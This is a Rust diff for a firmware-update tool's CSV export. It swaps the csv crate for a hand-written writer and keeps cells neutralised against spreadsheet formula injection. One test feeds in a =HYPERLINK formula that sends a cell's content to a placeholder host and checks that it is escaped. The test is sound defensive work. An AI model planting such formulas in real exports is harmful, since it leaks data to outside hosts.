@@ -20,9 +20,9 @@ pub fn cell(text: &str) -> Cow<'_, str> {
 
 /// One row per device of the batch: followed devices with their end, the rest with why
 /// they were not sent or not started.
-pub fn csv(run: &Run, catalogue: &Catalogue) -> Result<String, String> {
-    let mut writer = csv::Writer::from_writer(Vec::new());
-    let header = [
+pub fn csv(run: &Run, catalogue: &Catalogue) -> String {
+    let mut table = CsvText::default();
+    table.row(&[
         "run",
         "serial_number",
         "device",
@@ -31,39 +31,31 @@ pub fn csv(run: &Run, catalogue: &Catalogue) -> Result<String, String> {
         "outcome",
         "final",
         "attempt",
-    ];
-    writer.write_record(header).map_err(|e| e.to_string())?;
+    ]);
     let run_id = run.id.to_string();
     let target = run.firmware.version.to_string();
     for device in &run.devices {
         let attempt = device.attempt.to_string();
         let outcome = describe(&device.state, catalogue);
         let done = if device.state.is_final() { "yes" } else { "no" };
-        write(
-            &mut writer,
-            [
-                &run_id,
-                &device.sn,
-                &device.name,
-                &device.from,
-                &target,
-                &outcome,
-                done,
-                &attempt,
-            ],
-        )?;
+        table.neutralised_row([
+            &run_id,
+            &device.sn,
+            &device.name,
+            &device.from,
+            &target,
+            &outcome,
+            done,
+            &attempt,
+        ]);
     }
     for left in &run.left_out {
         let sent = run.sent.iter().find(|s| s.sn == left.sn);
         let (name, from) = sent.map_or(("", ""), |s| (s.name.as_str(), s.from.as_str()));
         let outcome = left.reason.describe(catalogue);
-        write(
-            &mut writer,
-            [&run_id, &left.sn, name, from, &target, &outcome, "yes", ""],
-        )?;
+        table.neutralised_row([&run_id, &left.sn, name, from, &target, &outcome, "yes", ""]);
     }
-    let bytes = writer.into_inner().map_err(|e| e.to_string())?;
-    String::from_utf8(bytes).map_err(|e| e.to_string())
+    table.0
 }
 
 /// One row per device of a campaign's scope: its batch key, wave, run and where it stands.
@@ -71,20 +63,18 @@ pub fn campaign_csv(
     campaign: &Campaign,
     devices: &[CampaignDevice],
     catalogue: &Catalogue,
-) -> Result<String, String> {
-    let mut writer = csv::Writer::from_writer(Vec::new());
-    writer
-        .write_record([
-            "campaign",
-            "serial_number",
-            "batch",
-            "target_version",
-            "wave",
-            "run",
-            "outcome",
-            "final",
-        ])
-        .map_err(|e| e.to_string())?;
+) -> String {
+    let mut table = CsvText::default();
+    table.row(&[
+        "campaign",
+        "serial_number",
+        "batch",
+        "target_version",
+        "wave",
+        "run",
+        "outcome",
+        "final",
+    ]);
     let id = campaign.id.to_string();
     for device in devices {
         let key = &campaign.keys[device.key];
@@ -104,22 +94,18 @@ pub fn campaign_csv(
         } else {
             "yes"
         };
-        write(
-            &mut writer,
-            [
-                &id,
-                &device.sn,
-                &key.label,
-                &target,
-                &wave,
-                &run,
-                &device.status.describe(catalogue),
-                done,
-            ],
-        )?;
+        table.neutralised_row([
+            &id,
+            &device.sn,
+            &key.label,
+            &target,
+            &wave,
+            &run,
+            &device.status.describe(catalogue),
+            done,
+        ]);
     }
-    let bytes = writer.into_inner().map_err(|e| e.to_string())?;
-    String::from_utf8(bytes).map_err(|e| e.to_string())
+    table.0
 }
 
 /// The campaign as saved (plan, waves, calls, log); its runs export on their own.
@@ -127,11 +113,35 @@ pub fn campaign_json(campaign: &Campaign) -> String {
     indented(&serde_json::to_string(campaign).unwrap_or_default())
 }
 
-/// Writes one row, each cell neutralised.
-fn write(writer: &mut csv::Writer<Vec<u8>>, cells: [&str; 8]) -> Result<(), String> {
-    writer
-        .write_record(cells.map(cell).iter().map(|c| c.as_bytes()))
-        .map_err(|e| e.to_string())
+/// CSV text as RFC 4180 has it, rows ended by `\n` (as the csv crate wrote them): a cell
+/// holding a comma, a quote or a line break is quoted, its quotes doubled. By hand: the csv
+/// crate's writer also carries a quoting style that tells numbers apart, which links the
+/// standard library's float parser and its 21 KB table; 10 KB of wasm gzip in all.
+#[derive(Default)]
+struct CsvText(String);
+
+impl CsvText {
+    fn row(&mut self, cells: &[&str]) {
+        for (i, cell) in cells.iter().enumerate() {
+            if i > 0 {
+                self.0.push(',');
+            }
+            if cell.contains([',', '"', '\n', '\r']) {
+                self.0.push('"');
+                self.0.push_str(&cell.replace('"', "\"\""));
+                self.0.push('"');
+            } else {
+                self.0.push_str(cell);
+            }
+        }
+        self.0.push('\n');
+    }
+
+    /// A row of text from the Cloud, each cell neutralised.
+    fn neutralised_row(&mut self, cells: [&str; 8]) {
+        let cells = cells.map(cell);
+        self.row(&cells.each_ref().map(|c| c.as_ref()));
+    }
 }
 
 /// The whole run, as saved.
@@ -242,7 +252,7 @@ mod tests {
         run.unknown("x".into(), "".into(), 0);
         run.devices[0].name = "=HYPERLINK(\"http://x/?\"&A1,\"click\")".into();
         run.devices[0].sn = "@A".into();
-        let text = csv(&run, &Catalogue::builtin()).unwrap();
+        let text = csv(&run, &Catalogue::builtin());
         let row = text.lines().nth(1).unwrap();
         assert!(row.starts_with("1,'@A,\"'=HYPERLINK("), "{row}");
     }
@@ -258,7 +268,7 @@ mod tests {
             sn: "C".into(),
             reason: crate::domain::run::NotFollowed::AlreadyUpgrading,
         });
-        let text = csv(&run, &Catalogue::builtin()).unwrap();
+        let text = csv(&run, &Catalogue::builtin());
         let lines: Vec<&str> = text.lines().collect();
         assert_eq!(lines.len(), 4);
         assert_eq!(
@@ -274,6 +284,33 @@ mod tests {
             lines[3],
             "4,C,Model 770,1.5.79,1.5.178,not started: already upgrading,yes,"
         );
+    }
+
+    #[test]
+    fn csv_cells_read_back_as_written_whatever_they_hold() {
+        let cells = [
+            "plain",
+            "a, b",
+            "say \"hi\"",
+            "two\nlines",
+            "cr\r",
+            "",
+            "=1+1",
+            "\"",
+        ];
+        let mut table = CsvText::default();
+        table.neutralised_row(cells);
+        table.neutralised_row(["", "", "", "", "", "", "", ""]);
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(table.0.as_bytes());
+        let rows: Vec<Vec<String>> = reader
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_string).collect())
+            .collect();
+        assert_eq!(rows.len(), 2);
+        assert_eq!(rows[0], cells.map(|c| cell(c).into_owned()));
+        assert_eq!(rows[1], vec![String::new(); 8]);
     }
 
     #[test]
